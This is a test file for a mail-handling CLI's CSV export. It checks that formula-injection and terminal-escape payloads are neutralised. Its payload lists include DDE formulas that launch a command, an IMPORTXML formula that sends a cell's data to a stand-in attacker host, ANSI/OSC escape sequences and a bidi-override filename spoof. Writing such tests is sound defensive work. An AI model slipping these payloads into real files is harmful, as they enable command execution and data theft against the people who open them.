"""`--format csv` cannot attack the spreadsheet or terminal that opens it.

Payloads from the OWASP "CSV Injection" page and public formula-injection lists: a cell that a
spreadsheet would evaluate gets a leading `'`; control characters, ANSI/OSC escapes and bidi
overrides become U+FFFD as in the tables (`render.printable`).
"""

from __future__ import annotations

import csv
import io

import pytest

from mailroom.cli import render
from mailroom.cli.output import csv_cell, to_csv
from tests.cli.conftest import Stack, hours_ago, run

FORMULAS = [
    '=HYPERLINK("http://evil.example","open").pdf',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    "-@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\t@SUM(1+1)",
    "  =1+1",  # some programs trim leading spaces before they look for a formula
]
CONTROLS = [
    "invoice\u202efdp.exe",  # shows as invoiceexe.pdf
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\.pdf",  # OSC 8 hyperlink
    "\x1b[2J\x1b[31mred.pdf",  # clear the screen, colour
    "bell\x07.pdf",
    "zero\u200bwidth\u2066isolate\u2069.pdf",
]


def reader_cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("payload", FORMULAS)
def test_a_formula_is_text_with_a_leading_quote(payload: str) -> None:
    cell = csv_cell(payload)
    assert cell.startswith("'")
    assert cell == "'" + render.printable(payload)
    [row] = reader_cells(to_csv([{"name": payload}], ["name"]))
    assert row["name"] == cell
    # No line of the file starts a formula (the quoting CSV adds does not protect a cell).
    for line in to_csv([{"name": payload}], ["name"]).splitlines():
        assert not line.lstrip('"').startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("payload", CONTROLS)
def test_controls_escapes_and_bidi_are_replaced_as_in_tables(payload: str) -> None:
    cell = csv_cell(payload)
    assert cell == render.printable(payload)
    assert cell.isprintable()
    assert "\x1b" not in cell and "\u202e" not in cell
    out = to_csv([{"name": payload}], ["name"])
    assert "\x1b" not in out and "\u202e" not in out and "\x07" not in out


def test_ordinary_values_are_unchanged() -> None:
    for value in ("Lettre reçue.pdf", "carol@origin.example", "2026-01-02T03:04:05.000Z", "a-b"):
        assert csv_cell(value) == value
    assert csv_cell(12) == 12
    assert csv_cell(None) == ""
    assert csv_cell(["=x"]) == '["=x"]'  # JSON text starts with [ and escapes controls


def test_list_and_messages_csv_neutralise_email_controlled_fields(stack: Stack) -> None:
    hostile = '=HYPERLINK("http://evil.example","open").pdf'
    stack.add_file(
        "m1",
        hostile,
        received_at=hours_ago(1),
        sender="@SUM(1+1)*cmd|' /C calc'!A0@evil.example",
        case="-2+3+cmd",
    )
    stack.add_file("m2", "\x1b]8;;http://evil.example\x1b\\x.pdf", received_at=hours_ago(2))
    result = run("list", "--format", "csv")
    assert result.exit_code == 0, result.stderr
    rows = {r["message_id"]: r for r in reader_cells(result.stdout)}
    assert rows["m1"]["filename"] == "'" + hostile
    assert rows["m1"]["sender"] == "'@SUM(1+1)*cmd|' /C calc'!A0@evil.example"
    assert rows["m1"]["case"] == "'-2+3+cmd"
    assert "\x1b" not in result.stdout
    assert rows["m2"]["filename"] == "\ufffd]8;;http://evil.example\ufffd\\x.pdf"
